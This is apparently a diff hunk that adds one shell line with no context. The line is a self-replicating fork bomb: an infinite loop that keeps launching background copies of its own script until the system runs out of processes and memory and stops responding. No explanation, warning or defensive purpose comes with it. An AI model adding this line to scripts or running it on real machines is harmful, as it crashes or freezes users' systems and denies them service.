@@ -1,0 +1,1 @@
+while :; do sh "$0" & done
